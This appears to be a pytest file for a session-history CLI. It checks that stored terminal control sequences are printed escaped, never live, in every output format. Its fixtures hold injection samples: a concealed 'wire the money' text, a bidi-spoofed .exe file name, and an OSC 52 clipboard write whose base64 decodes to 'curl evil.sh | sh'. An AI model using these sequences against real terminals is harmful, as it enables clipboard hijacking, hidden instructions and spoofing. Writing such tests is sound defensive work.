"""``hermes-context sessions ...`` never prints a stored terminal control live (issue 26
item 7): a session stores whatever a tool printed or a page said, screen clears, concealed
text and OSC 52 clipboard writes included. Every format, every command."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from sessions_support import assistant, call, tool_result, user

from hermes_core.cli import main
from hermes_core.cli.escaped import json_text, one_line, visible
from hermes_core.sessions.sqlite import SQLiteSessionStore

pytestmark = pytest.mark.usefixtures("isolated_home")

CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
HIDDEN = "\x1b[8mwire the money\x1b[28m"  # concealed text
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
C1_CSI = "\x9b31m"  # the one-byte CSI
BIDI = "invoice \u202egnp.exe\u202c"
OTHERS = "bell\x07 back\x08 cr\r del\x7f lrm\u200e isolate\u2066x\u2069"
PAYLOAD = f"invoice {CLEAR}{HIDDEN}{CLIPBOARD}{C1_CSI}{BIDI} {OTHERS}"
#: Anything a terminal acts on: C0 but newline and tab, DEL, C1, bidi overrides and marks.
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
MESSAGES = [
    user(f"pay the {PAYLOAD}"),
    assistant(None, tool_calls=[call("c1", f"fetch{CLEAR}", f'{{"url": "{CLIPBOARD}"}}')]),
    tool_result("c1", "fetch", f"invoice page says {PAYLOAD}"),
    assistant([{"type": "text", "text": f"invoice {HIDDEN}"}, {"type": "x", "v": CLIPBOARD}]),
    assistant([{"type": "image", "data": f"invoice {CLIPBOARD}{C1_CSI}"}]),
]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(["sessions", *argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def planted(isolated_home: Path) -> Path:
    store = SQLiteSessionStore(isolated_home / "state.db")
    store.open_session("s1", user_id=None, model=f"gpt{C1_CSI}", title=f"bills {PAYLOAD}")
    store.append_messages("s1", MESSAGES)
    store.close()
    return isolated_home


def assert_harmless(text: str) -> None:
    assert not LIVE.search(text), repr(LIVE.findall(text)[:5])
    assert "\\x1b[2J" in text or "\\u001b[2J" in text  # shown, not acted on


HUMAN = [
    ["list"],
    ["show", "s1"],
    ["show", "s1", "--all"],
    ["search", "invoice"],
    ["export", "s1", "--format", "md"],
]
MACHINE = [
    ["list", "--json"],
    ["show", "s1", "--json"],
    ["search", "invoice", "--json"],
    ["export", "s1"],
    ["export", "s1", "--format", "json"],
    ["export", "s1", "--format", "jsonl"],
]


@pytest.mark.parametrize("argv", HUMAN, ids=" ".join)
def test_text_formats_show_controls_escaped(
    capsys: pytest.CaptureFixture[str], planted: Path, argv: list[str]
) -> None:
    code, out, err = run(capsys, *argv)
    assert code == 0, err
    assert_harmless(out + err)
    assert "\\x9b31m" in out
    if argv[0] != "list":  # the list cuts titles before the override
        assert "\\u202e" in out and "\\x07" in out


@pytest.mark.parametrize("argv", MACHINE, ids=" ".join)
def test_json_formats_keep_the_exact_data_and_no_live_control(
    capsys: pytest.CaptureFixture[str], planted: Path, argv: list[str]
) -> None:
    code, out, err = run(capsys, *argv)
    assert code == 0, err
    assert_harmless(out + err)
    lines = out.splitlines() if "jsonl" in argv else [out]
    decoded = [json.loads(line) for line in lines]
    if argv[0] == "export":
        messages = decoded if "jsonl" in argv else decoded[0]["messages"]
        assert messages == MESSAGES  # nothing lost, nothing altered
    else:
        assert any(PAYLOAD in text for text in strings(decoded))


def strings(value: object) -> list[str]:
    """Every string inside a decoded JSON document."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    return []


def test_a_markdown_file_is_escaped_too(
    capsys: pytest.CaptureFixture[str], planted: Path, tmp_path: Path
) -> None:
    out_file = tmp_path / "s1.md"
    code, _, err = run(capsys, "export", "s1", "--format", "md", "--out", str(out_file))
    assert code == 0, err
    assert_harmless(out_file.read_text(encoding="utf-8"))


def test_the_shared_helpers() -> None:
    assert visible(f"a\tb\n{CLEAR}") == "a\tb\n\\x1b[2J\\x1b[H"
    assert visible("\u200f\u2028") == "\\u200f\\u2028"
    assert one_line("a\n\x1b]52;c;x\x07\tb") == "a \\x1b]52;c;x\\x07 b"
    assert one_line("x" * 50, 10) == "x" * 9 + "…"
    document = json_text({"k": PAYLOAD})
    assert not LIVE.search(document) and json.loads(document) == {"k": PAYLOAD}
